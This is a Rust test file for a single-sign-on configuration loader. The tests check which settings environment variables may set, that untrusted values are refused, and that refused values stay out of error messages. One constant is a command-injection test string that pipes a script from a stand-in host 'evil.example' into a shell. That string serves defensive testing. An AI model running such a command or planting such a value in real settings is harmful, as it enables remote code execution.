//! Which keys environment variables may set, with and without a configuration file.

use super::{GOOD, Home, TRUSTING, assert_has};
use crate::{
    config::{
        ConfigFault, ConfigProblem, Error, ValueLocation,
        key::{ConfigKey, KeyDefault, SetBy, VariablePolicy},
        keys::KEYS,
        toml_value::to_toml,
        variables::KNOWN_VARIABLES,
    },
    failure::{Exit, Failure},
    hint::Invocation,
};

/// A value that an untrusted repository could set. It must not appear in a message.
const PLANTED: &str = "planted; curl evil.example | sh";

/// A legal value for the variable of a key, if possible not the default.
fn legal(key: &ConfigKey) -> String {
    let names = (key.schema)()["enum"].as_array().cloned().unwrap_or_default();
    let names: Vec<&str> = names.iter().filter_map(|name| name.as_str()).collect();
    match (key.name, key.default) {
        ("region", _) => "us-west-2".to_owned(),
        ("session_duration", _) => "1h".to_owned(),
        ("login_timeout", _) => "10m".to_owned(),
        (_, KeyDefault::Text(default)) if !names.is_empty() => {
            names.iter().find(|name| **name != default).unwrap_or(&default).to_string()
        }
        (_, _) => key.default_value().map(|value| to_toml(&value)).unwrap_or_default(),
    }
}

/// The keys that a variable may set under this policy.
fn keys_under(policy: VariablePolicy) -> impl Iterator<Item = &'static ConfigKey> {
    KEYS.into_iter().filter(move |key| key.set_by == SetBy::Variable(policy))
}

fn problems(home: &Home) -> Vec<ConfigProblem> {
    match home.load() {
        Err(Error::Invalid(problems)) => problems,
        other => panic!("{other:?}"),
    }
}

/// A configuration that consists of variables only, as in containers.
fn by_variables() -> Home {
    Home::new()
        .variable("BEDROCK_SSO_ISSUER", "https://acme.okta.com")
        .variable("BEDROCK_SSO_CLIENT_ID", "0oa1b2c3d4")
        .variable("BEDROCK_SSO_ROLE_ARN", "arn:aws:iam::123456789012:role/BedrockUser")
        .variable("BEDROCK_SSO_REGION", "us-east-1")
}

#[test]
fn redirecting_variable_is_rejected_if_any_file_exists() {
    for key in keys_under(VariablePolicy::WithoutFile) {
        let variable = key.variable;
        for home in [
            Home::new().user(GOOD),
            Home::new().system(GOOD),
            // A file that exists counts even if it defines no profile.
            Home::new().user("version = 1\n"),
            Home::new().with("mine.toml", GOOD).file("mine.toml"),
            // A file in the default place counts even if the call reads another one.
            Home::new().user("version = 1\n").with("mine.toml", "version = 1\n").file("mine.toml"),
        ] {
            let problems = problems(&home.variable(variable, PLANTED));
            let [
                ConfigProblem {
                    location: place,
                    fault: ConfigFault::VariableNotAllowed { variable: named, key: needed, file },
                },
            ] = problems.as_slice()
            else {
                panic!("{}: {problems:?}", key.name)
            };
            assert_eq!(
                (place, named, *needed),
                (&ValueLocation::Variable(variable.to_owned()), &variable.to_owned(), key.name)
            );
            let failure = Failure::from(Error::Invalid(problems.clone()));
            assert_eq!((failure.exit(), failure.slug()), (Exit::Configuration, "config/variable_refused"));
            assert!(failure.what().starts_with(variable) && failure.what().contains(file), "{}", failure.what());
            let hint = failure.hint(&Invocation::default());
            assert!(hint.contains(key.name) && hint.contains(variable), "{hint}");
            let rendered = failure.render(&Invocation::default());
            assert!(!rendered.contains("planted"), "{rendered}");
        }
    }
}

#[test]
fn redirecting_variable_with_the_same_value_is_rejected() {
    let home = Home::new().user(GOOD).variable("BEDROCK_SSO_CLIENT_ID", "0oa1b2c3d4");
    assert_has(&home.line(), &["BEDROCK_SSO_CLIENT_ID:", "\"client_id\""]);
}

#[test]
fn harmless_variable_counts_if_a_file_exists() {
    for key in keys_under(VariablePolicy::Always) {
        let value = legal(key);
        let home = Home::new().user(GOOD).variable(key.variable, &value);
        let shown = home.ask(crate::config::report_profile).unwrap_or_else(|error| panic!("{}: {error}", key.name));
        let entry = shown.entries.into_iter().find(|entry| entry.key == key).unwrap();
        assert_eq!(entry.origin, key.variable, "{} = {value}", key.name);
    }
}

#[test]
fn variable_for_a_file_only_key_is_always_rejected() {
    for key in KEYS.iter().filter(|key| !matches!(key.set_by, SetBy::Variable(_))) {
        let problems = problems(&by_variables().variable(key.variable, PLANTED));
        let is_refused =
            |fault: &ConfigFault| matches!(fault, ConfigFault::AdministratorOnly { .. } | ConfigFault::FileOnly { .. });
        assert!(problems.iter().all(|problem| is_refused(&problem.fault)), "{}: {problems:?}", key.name);
    }
}

#[test]
fn variables_alone_can_define_a_profile() {
    let profile = by_variables()
        .variable("BEDROCK_SSO_QUOTA_ENDPOINT", "https://quota.example")
        .variable("BEDROCK_SSO_STORAGE", "file")
        .load()
        .unwrap();
    assert_eq!(profile.quota.unwrap().endpoint.as_str(), "https://quota.example/check");
}

#[test]
fn named_file_without_profiles_allows_variables() {
    let home = by_variables().with("mine.toml", "version = 1\n");
    let path = home.at("mine.toml").to_str().unwrap().to_owned();
    assert_eq!(home.variable("BEDROCK_SSO_CONFIG", &path).load().unwrap().name, "default");
}

#[test]
fn config_variable_is_rejected_if_a_default_file_exists() {
    for home in [Home::new().user(GOOD), Home::new().system(GOOD)] {
        let home = home.with("mine.toml", GOOD);
        let path = home.at("mine.toml").to_str().unwrap().to_owned();
        let home = home.variable("BEDROCK_SSO_CONFIG", &path);
        let line = home.line();
        assert!(line.starts_with("BEDROCK_SSO_CONFIG: "), "{line}");
        assert!(!line.contains("mine.toml"), "{line}");
        // The flag is obeyed.
        assert!(home.file("mine.toml").load().is_ok());
    }
}

#[test]
fn profile_of_a_variable_named_file_is_protected() {
    let home = Home::new().with("mine.toml", GOOD).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
    assert_eq!(home.load().unwrap().oidc().unwrap().client_id, "0oa1b2c3d4");
    let home = home.variable("BEDROCK_SSO_CLIENT_ID", PLANTED);
    assert!(matches!(problems(&home)[0].fault, ConfigFault::VariableNotAllowed { .. }));
}

#[test]
fn config_variable_with_relative_path_is_rejected() {
    let line = Home::new().variable("BEDROCK_SSO_CONFIG", "mine.toml").line();
    testworld::expect_wording("config", "config variable with a relative path", &line);
}

#[test]
fn trust_environment_lets_variables_set_every_key() {
    for home in [Home::new().user(TRUSTING), Home::new().system(TRUSTING)] {
        let home = home.with("mine.toml", GOOD.replace("claude", "mine"));
        let path = home.at("mine.toml").to_str().unwrap().to_owned();
        let home = home.variable("BEDROCK_SSO_CLIENT_ID", "other");
        assert_eq!(home.load().unwrap().oidc().unwrap().client_id, "other");
        let home = home.variable("BEDROCK_SSO_CONFIG", &path).profile("mine");
        let profile = home.load().unwrap();
        assert_eq!((profile.name.as_str(), profile.oidc().unwrap().client_id.as_str()), ("mine", "other"));
    }
}

#[test]
fn trust_environment_does_not_lift_enforced_keys() {
    let system = GOOD.replace("version = 1", "version = 1\nenforce = [\"client_id\"]");
    let home = Home::new().system(system).user("version = 1\ntrust_environment = true\n");
    let line = home.variable("BEDROCK_SSO_CLIENT_ID", "other").line();
    assert!(line.starts_with("BEDROCK_SSO_CLIENT_ID: \"client_id\" "), "{line}");
}

#[test]
fn trust_environment_in_a_named_file_is_rejected() {
    let home = Home::new().with("mine.toml", TRUSTING).file("mine.toml");
    assert_has(&home.line(), &["~/mine.toml:1:", "\"trust_environment\""]);
    let home = Home::new().with("mine.toml", TRUSTING).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
    assert!(matches!(problems(&home)[0].fault, ConfigFault::DefaultLocationOnly { key: "trust_environment" }));
    // Naming the file in the default place does not make it another file.
    let home = Home::new().user(TRUSTING).file("user.toml").variable("BEDROCK_SSO_CLIENT_ID", "other");
    assert_eq!(home.load().unwrap().oidc().unwrap().client_id, "other");
}

#[test]
fn every_rejected_variable_is_reported() {
    let home =
        Home::new().user(GOOD).variable("BEDROCK_SSO_STS_ENDPOINT", PLANTED).variable("BEDROCK_SSO_BROWSER", PLANTED);
    let lines = home.lines();
    assert_eq!(lines.len(), 2, "{lines:?}");
}

/// The table of docs/variables.md, rendered from the declarations.
fn documented() -> String {
    let rule = |policy: VariablePolicy| match policy {
        VariablePolicy::Always => "always",
        VariablePolicy::WithoutFile => "where no file defines the profile",
    };
    let row = |name: &str, rule: &str, key: Option<&ConfigKey>, effect: &str| {
        let key = key.map_or_else(|| "–".to_owned(), |key| format!("`{}`", key.name));
        format!("| `{name}` | {rule} | {key} | {effect} |\n")
    };
    let others = KNOWN_VARIABLES.iter().map(|it| row(it.name, rule(it.policy), it.key, it.effect));
    let keys = KEYS.into_iter().map(|key| {
        let rule = match key.set_by {
            SetBy::Administrator | SetBy::File => "never",
            SetBy::Variable(policy) => rule(policy),
        };
        row(key.variable, rule, Some(key), "sets the key")
    });
    others.chain(keys).collect()
}

#[test]
fn variables_page_lists_every_declared_variable() {
    testworld::expect_part("docs/variables.md", "|---|---|---|---|\n", "\n\n", documented().trim_end());
}

fn seen(home: &Home) -> Vec<(String, Option<String>)> {
    let shown = home.ask(crate::config::report_profile).unwrap();
    shown.variables.into_iter().map(|it| (it.name, it.not_used)).collect()
}

#[test]
fn every_set_variable_is_listed_with_its_status() {
    for declared in &KNOWN_VARIABLES {
        // This variable names another file, so it would be rejected.
        if declared.name == "BEDROCK_SSO_CONFIG" {
            continue;
        }
        let value = if declared.name == "BEDROCK_SSO_PROFILE" { "claude" } else { "/some/value" };
        let home = Home::new().user(GOOD).variable(declared.name, value);
        let seen = seen(&home);
        let [(name, not_used)] = seen.as_slice() else { panic!("{}: {seen:?}", declared.name) };
        assert_eq!(name, declared.name);
        if declared.policy == VariablePolicy::WithoutFile && declared.key.is_some() {
            let file = if cfg!(windows) { r"~\user.toml" } else { "~/user.toml" };
            assert_eq!(not_used.as_deref(), Some(format!("{file} defines the profile").as_str()), "{name}");
            let by_trust = home_with(TRUSTING, declared.name);
            assert_eq!(by_trust, [(declared.name.to_owned(), None)], "a file trusts it");
        }
    }
}

fn home_with(text: &str, variable: &str) -> Vec<(String, Option<String>)> {
    seen(&Home::new().user(text).variable(variable, "/some/value"))
}

#[test]
fn variable_overridden_by_the_profile_names_the_key() {
    let with = |line: &str, variable: &str| home_with(&format!("{TRUSTING}{line}\n"), variable)[0].1.clone();
    for (line, variable, key) in [
        ("sts_endpoint = \"https://sts.example\"", "AWS_ENDPOINT_URL_STS", "sts_endpoint"),
        ("ca_bundle = \"~/ca.pem\"", "AWS_CA_BUNDLE", "ca_bundle"),
        ("proxy = \"none\"", "HTTPS_PROXY", "proxy"),
        ("browser = [\"firefox\", \"{url}\"]", "BROWSER", "browser"),
    ] {
        assert_eq!(with(line, variable), Some(format!("the profile sets `{key}`")), "{variable}");
    }
    let enforced = TRUSTING
        .replace("version = 1", "version = 1\nenforce = [\"browser\", \"ca_bundle\", \"proxy\", \"bedrock_endpoint\"]");
    for (variable, key) in [
        ("AWS_ENDPOINT_URL_STS", "bedrock_endpoint"),
        ("NODE_EXTRA_CA_CERTS", "ca_bundle"),
        ("ALL_PROXY", "proxy"),
        ("BROWSER", "browser"),
    ] {
        let home = Home::new().system(&enforced).variable(variable, "/some/value");
        let expected = format!("the administrator enforces `{key}`");
        assert_eq!(seen(&home), [(variable.to_owned(), Some(expected))]);
    }
    let relative = Home::new().user(GOOD).variable("BROWSER", "./b");
    assert_eq!(seen(&relative)[0].1.as_deref(), Some("its path is relative"));
    let two = Home::new().user(GOOD).variable("HTTPS_PROXY", "a:1").variable("all_proxy", "b:2");
    assert_eq!(seen(&two)[1].1.as_deref(), Some("HTTPS_PROXY is set"));
}
